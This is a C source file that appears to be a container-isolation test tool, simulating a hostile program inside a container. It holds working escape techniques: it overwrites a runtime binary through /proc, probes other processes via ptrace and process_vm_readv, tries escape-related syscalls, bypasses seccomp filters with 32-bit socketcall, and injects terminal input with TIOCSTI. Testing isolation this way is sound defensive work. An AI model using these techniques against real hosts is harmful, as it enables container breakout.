/*
 * attack.c - what a hostile program in a container tries; statically linked, for any root
 *
 *	attack overwrite            waits for a process whose program is of no file system that it
 *	                            knows, ends it, and writes to its program
 *	attack peek PID             every way into another process; prints those that are open
 *	attack peek-all             the same, for all processes that come while it runs
 *	attack calls                system calls that containers have been left by; prints their errors
 *	attack type                 puts a character into the terminal that is standard input
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

enum { SECONDS = 60, PAUSE_US = 2000 };

static void say(const char *what, long result)
{
	printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "open");
	fflush(stdout);
}

/* Calls act for each process but ourselves, until it says that it is done or time is over. */
static int for_each_process(int (*act)(int pid))
{
	time_t end = time(NULL) + SECONDS;

	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc))) {
			int pid = atoi(e->d_name);

			if (pid > 0 && pid != getpid() && act(pid)) {
				closedir(proc);
				return 0;
			}
		}
		if (proc)
			closedir(proc);
	}
	puts("nothing came");
	return 1;
}

/* -- the program of the runtime -- */

static int overwrite(int pid)
{
	char path[64], link[256] = "";
	struct stat theirs, shell, ours;
	struct statvfs fs;
	int fd, out = -1;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	if (fstat(fd, &theirs) < 0 || stat("/bin/busybox", &shell) < 0 ||
	    stat("/proc/self/exe", &ours) < 0 ||
	    (theirs.st_ino == shell.st_ino && theirs.st_dev == shell.st_dev) ||
	    (theirs.st_ino == ours.st_ino && theirs.st_dev == ours.st_dev)) {
		close(fd);
		return 0;
	}
	(void)!readlink(path, link, sizeof(link) - 1);
	printf("caught %s, on a %s mount\n", link,
	       fstatvfs(fd, &fs) == 0 && fs.f_flag & ST_RDONLY ? "read-only" : "writable");
	kill(pid, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* Busy as long as it runs. */
	for (int i = 0; i < 500 && out < 0; i++) {
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out < 0 && errno != ETXTBSY)
			break;
		usleep(PAUSE_US);
	}
	say("write", out);
	if (out >= 0)
		(void)!write(out, "overwritten", 11);
	return 1;
}

/* -- into other processes -- */

static const char *const doors[] = { "root", "cwd",  "exe",     "fd/0",  "fd/3",      "mem",
				     "maps", "auxv", "environ", "stack", "map_files", "syscall" };

/* A file says something, a directory has something in it. */
static int is_open(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), n = 0;
	DIR *dir = fd < 0 ? NULL : fdopendir(fd);
	char byte;

	if (dir) {
		while (readdir(dir))
			n++;
		closedir(dir);
		return n > 2;
	}
	if (fd < 0)
		return 0;
	/* Memory is not there at 0, but whoever may ask is told that. */
	n = read(fd, &byte, 1) > 0 || errno == EIO;
	close(fd);
	return n;
}

static int peek(int pid)
{
	char path[64], byte;
	struct iovec here = { &byte, 1 }, there = { (void *)&doors, 1 };
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, doors[i]);
		errno = 0;
		if (is_open(path))
			say(doors[i], 0);
	}
	if (syscall(SYS_pidfd_getfd, fd, 0, 0) >= 0)
		say("pidfd_getfd", 0);
	if (syscall(SYS_process_vm_readv, pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		say("process_vm_readv", 0);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) >= 0)
		say("ptrace", 0);
	close(fd);
	return 1;
}

static int seen[4096], n_seen;

/* New ones, again and again: what is closed once may open when it changes its credentials. */
static int peek_new(int pid)
{
	char path[64], program[64] = "";
	ssize_t n;

	for (int i = 0; i < n_seen; i++)
		if (seen[i] == pid)
			return 0;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, program, sizeof(program) - 1);
	if (n < 0 && errno == EACCES) {
		printf("closed %d\n", pid);
		fflush(stdout);
		return 0;
	}
	if (n < 0)
		return 0;
	if (n_seen < 4096)
		seen[n_seen++] = pid;
	printf("program %s\n", program);
	fflush(stdout);
	return !strcmp(program, "/bin/sleep");
}

/* -- the kernel's surface -- */

static void try_calls(void)
{
	static const struct {
		const char *name;
		long nr, a, b, c, d, e;
	} calls[] = {
		{ "add_key", SYS_add_key, 0, 0, 0, 0, -1 },
		{ "keyctl", SYS_keyctl, 0, -3, 0, 0, 0 },
		{ "request_key", SYS_request_key, 0, 0, 0, 0, 0 },
		{ "open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, 0, 0, 0, 0 },
		{ "io_uring_setup", SYS_io_uring_setup, 1, 0, 0, 0, 0 },
		{ "bpf", SYS_bpf, 0, 0, 0, 0, 0 },
		{ "perf_event_open", SYS_perf_event_open, 0, 0, -1, -1, 0 },
		{ "userfaultfd", SYS_userfaultfd, 0, 0, 0, 0, 0 },
		{ "clone3", SYS_clone3, 0, 0, 0, 0, 0 },
		{ "unshare", SYS_unshare, CLONE_NEWUSER, 0, 0, 0, 0 },
		{ "clone", SYS_clone, CLONE_NEWNS, 0, 0, 0, 0 },
		{ "setns", SYS_setns, -1, 0, 0, 0, 0 },
		{ "mount", SYS_mount, 0, 0, 0, 0, 0 },
		{ "umount2", SYS_umount2, 0, 0, 0, 0, 0 },
		{ "pivot_root", SYS_pivot_root, 0, 0, 0, 0, 0 },
		{ "fsopen", SYS_fsopen, 0, 0, 0, 0, 0 },
		{ "fsconfig", SYS_fsconfig, -1, 0, 0, 0, 0 },
		{ "open_tree", SYS_open_tree, -1, 0, 0, 0, 0 },
		{ "move_mount", SYS_move_mount, -1, 0, -1, 0, 0 },
		{ "mount_setattr", SYS_mount_setattr, -1, 0, 0, 0, 0 },
		{ "init_module", SYS_init_module, 0, 0, 0, 0, 0 },
		{ "finit_module", SYS_finit_module, -1, 0, 0, 0, 0 },
		{ "kexec_load", SYS_kexec_load, 0, 0, 0, 0, 0 },
		{ "reboot", SYS_reboot, 0, 0, 0, 0, 0 },
		{ "settimeofday", SYS_settimeofday, 0, 0, 0, 0, 0 },
		{ "swapon", SYS_swapon, 0, 0, 0, 0, 0 },
		{ "AF_ALG", SYS_socket, AF_ALG, SOCK_SEQPACKET, 0, 0, 0 },
		{ "AF_VSOCK", SYS_socket, AF_VSOCK, SOCK_STREAM, 0, 0, 0 },
	};

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
		say(calls[i].name, syscall(calls[i].nr, calls[i].a, calls[i].b, calls[i].c,
					   calls[i].d, calls[i].e));
}

/* As a program of 32 bits makes a socket: all at once behind a pointer, which no filter looks at. */
static void try_socketcall(void)
{
#ifdef __x86_64__
	enum { GETPID_32 = 20, SOCKETCALL_32 = 102, SOCKETCALL_SOCKET = 1 };
	unsigned *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int r = GETPID_32;

	__asm__ volatile("int $0x80" : "+a"(r) : : "r8", "r9", "r10", "r11", "memory");
	if (r < 0 || args == MAP_FAILED) {
		puts("no 32 bits");
		return;
	}
	memcpy(args, (unsigned[]){ AF_ALG, SOCK_SEQPACKET, 0 }, 3 * sizeof(*args));
	r = SOCKETCALL_32;
	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(SOCKETCALL_SOCKET), "c"(args)
			 : "r8", "r9", "r10", "r11", "memory");
	errno = r < 0 ? -r : 0;
	say("socketcall", r < 0 ? -1 : r);
#endif
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "overwrite"))
		return for_each_process(overwrite);
	if (!strcmp(what, "peek") && argc == 3)
		return !peek(atoi(argv[2]));
	if (!strcmp(what, "peek-all"))
		return for_each_process(peek_new);
	if (!strcmp(what, "calls")) {
		try_calls();
		try_socketcall();
	} else if (!strcmp(what, "type")) {
		say("TIOCSTI", ioctl(0, TIOCSTI, "x"));
	} else {
		return 2;
	}
	return 0;
}
